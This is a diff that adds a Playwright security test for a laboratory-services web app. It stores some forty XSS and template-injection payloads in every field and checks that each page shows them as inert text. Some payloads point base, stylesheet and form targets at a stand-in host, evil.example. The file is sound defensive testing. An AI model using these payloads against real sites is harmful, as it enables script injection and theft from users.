@@ -1,0 +1,132 @@
+import type { APIRequestContext, Page } from '@playwright/test';
+import { fields } from '#contract/prestazione.fields.ts';
+import { keptToken, openAs } from './accounts.ts';
+import { changeAs, headersOf } from './editing.ts';
+import { expect, expectProgram, test, wordsOf } from './screens.ts';
+
+// Texts that are markup, scripts, templates or addresses elsewhere, in every field, on every page that shows one (trust.md E1;
+// ASVS 3.2.2). What breaks the content security policy, or fails, is noticed by `test` itself.
+
+test.use({ serverOf: 'testi-ostili' });
+
+const say = wordsOf('it');
+const payloads = [
+  '<script>hit()</script>',
+  '<img src=x onerror=hit()>',
+  '<svg/onload=hit()>',
+  '<svg><script>hit()</script></svg>',
+  '"><script>hit()</script>',
+  "'><img src=x onerror=hit()>",
+  '</textarea><script>hit()</script>',
+  '</title><script>hit()</script>',
+  '</script><script>hit()</script>',
+  '</style><script>hit()</script>',
+  '--><script>hit()</script>',
+  ']]><script>hit()</script>',
+  '<iframe src=javascript:hit()></iframe>',
+  '<iframe srcdoc="<script>hit()</script>">',
+  '<a href=javascript:hit()>x</a>',
+  '<a href="data:text/html,<script>hit()</script>">x</a>',
+  '<body onload=hit()>',
+  '<input autofocus onfocus=hit()>',
+  '<details open ontoggle=hit()>',
+  '<video><source onerror=hit()></video>',
+  '<math><mtext><script>hit()</script></mtext></math>',
+  '<object data=javascript:hit()>',
+  '<embed src=javascript:hit()>',
+  '<meta http-equiv=refresh content="0;url=/home">',
+  '<base href=//evil.example/>',
+  '<link rel=stylesheet href=//evil.example>',
+  '<style>*{display:none}</style>',
+  '<form action=//evil.example><button>x</form>',
+  '<table background=javascript:hit()>',
+  '<p style="position:fixed;inset:0">x</p>',
+  '" onmouseover="hit()',
+  "' onfocus='hit()' autofocus='",
+  'javascript:hit()',
+  '{{constructor.constructor("hit()")()}}',
+  '$' + '{hit()}',
+  '<%= hit() %>',
+  '#{hit()}',
+  '&lt;script&gt;hit()&lt;/script&gt;',
+  '&#60;script&#62;hit()&#60;/script&#62;',
+  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
+];
+const together = 5;
+const groups = Array.from({ length: payloads.length / together }, (_, at) =>
+  payloads.slice(at * together, (at + 1) * together),
+);
+
+/** As long as a field takes; what is cut off is in another one. */
+const textOf = (group: readonly string[], longest = 300) => {
+  const all = group.join(' ');
+  return all.length <= longest ? all : (group.find((one) => one.length <= longest) ?? 'x');
+};
+
+async function addValue(request: APIRequestContext, table: string, description: string): Promise<number> {
+  const data = { table, code: null, description };
+  const saved = await request.post('/api/DLAB/admin/SaveValoreTabella', { headers: headersOf('olga'), data });
+  expect(saved.status(), await saved.text()).toBe(200);
+  return (await saved.json()).value.id;
+}
+
+/** A test with the texts in every field that takes any, and an announcement. */
+async function write(request: APIRequestContext, group: readonly string[], at: number) {
+  const form: Record<string, unknown> = { internalCode: `OST-${at}`, urgentRequest: true };
+  for (const field of fields) {
+    if (field.key === 'internalCode' || field.key === 'nomenclatorCode') continue;
+    const longest = 'maxLength' in field ? field.maxLength : 300;
+    if (field.kind === 'text' || field.kind === 'longText') form[field.key] = textOf(group, longest);
+    if (field.kind === 'texts') form[field.key] = [...group];
+    if (field.kind === 'choice') form[field.key] = await addValue(request, field.table, textOf(group));
+    if (field.kind === 'choices') form[field.key] = [await addValue(request, field.table, textOf(group))];
+  }
+  const interval = { sex: 'any', ageFrom: null, ageTo: null, ageUnit: null, phase: null };
+  const bounds = { low: null, lowOperator: null, high: null, highOperator: null, text: textOf(group) };
+  form['intervals'] = [{ ...interval, ...bounds }];
+  const id = await changeAs('olga', request, 'Prestazione', form);
+  const said = { title: textOf(group), subject: group.join('\n') };
+  return { id, comunicato: await changeAs('olga', request, 'Comunicato', said) };
+}
+
+/** The page that was opened shows the texts as they are, and nothing came of them. */
+async function expectHarmless(page: Page, text: string): Promise<void> {
+  await expectProgram(page, say);
+  await expect(page.getByText(text).first()).toBeAttached();
+  const made =
+    'script:not([src]):not([type="application/ld+json"]), iframe, object, embed, base, math, video, [onerror], [onload], [onfocus], [onmouseover], [ontoggle], a[href^="javascript:"], a[href^="data:"], meta[http-equiv=refresh]';
+  await expect(page.locator(made)).toHaveCount(0);
+  expect(await page.evaluate(() => 'wasHit' in window)).toBe(false);
+}
+
+test('texts that are markup or scripts are texts, in every field and on every page', async ({ page, request }) => {
+  page.on('dialog', (dialog) => {
+    throw new Error(`a dialog was opened: ${dialog.message()}`);
+  });
+  await page.addInitScript(() => {
+    Object.assign(window, { hit: () => Object.assign(window, { wasHit: true }) });
+  });
+  const made = [];
+  for (const [at, group] of groups.entries()) made.push({ group, ...(await write(request, group, at)) });
+  for (const { group, id, comunicato } of made) {
+    await page.goto(`/esami/${id}`);
+    await expectHarmless(page, textOf(group));
+    await page.goto(`/comunicazioni/${comunicato}`);
+    await expectHarmless(page, textOf(group));
+  }
+  const [first] = groups;
+  const whole = textOf(first ?? []);
+  for (const at of ['/esami?q=OST-0', '/esami-urgenti?q=OST-0', '/comunicazioni', '/tabelle?table=materiali']) {
+    await page.goto(at);
+    await expectHarmless(page, whole);
+  }
+  for (const { group, id } of made) {
+    await openAs(page, keptToken('olga'), `/admin/esami/${id}`);
+    await expect(page.getByRole('textbox', { name: say('field.serviceName') })).toHaveValue(textOf(group));
+    await expect(page.getByRole('textbox', { name: say('field.noteLab') })).toHaveValue(textOf(group, 4000));
+  }
+  for (const at of ['/admin/tabelle?table=materiali', '/admin/storia', '/admin/comunicazioni']) {
+    await openAs(page, keptToken('olga'), at);
+    await expectHarmless(page, at === '/admin/storia' ? (groups.at(-1)?.[0] ?? '') : whole);
+  }
+});
